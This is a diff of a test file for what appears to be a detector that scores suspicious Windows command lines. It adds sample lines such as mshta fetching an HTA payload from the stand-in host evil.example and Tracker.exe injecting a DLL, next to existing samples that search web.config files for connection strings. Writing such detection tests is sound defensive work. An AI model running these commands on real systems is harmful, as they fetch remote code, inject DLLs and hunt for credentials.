@@ -188,6 +188,8 @@ describe('and what looks like it stays one', () => {
     String.raw`forfiles.exe ¦ forfiles /p D:\web /s /m web.config /c "cmd /c findstr /i connectionString @path" ¦ cmd.exe`,
     'wmic.exe ¦ wmic computersystem where name="WS1" call unjoindomainorworkgroup ¦ cmd.exe',
     String.raw`msbuild.exe ¦ C:\Windows\Microsoft.NET\Framework64\v4.0.30319\MSBuild.exe "C:\Program Files\Vendor\Sheet.proj" /nologo /v:q ¦ ${TASK}`,
+    String.raw`mshta.exe ¦ mshta ftp:\evil.example\a.hta ¦ cmd.exe`,
+    String.raw`tracker.exe@C:\Program Files\Microsoft Visual Studio\2022\Community\MSBuild\Current\Bin\amd64\Tracker.exe ¦ Tracker.exe /r "x /c y" /d "C:\Program Files\Vendor\a.dll" /c C:\Windows\write.exe ¦ -`,
   ])('%s', (line) => {
     expect(scored(line).bits).toBeGreaterThanOrEqual(DEVIATION)
   })
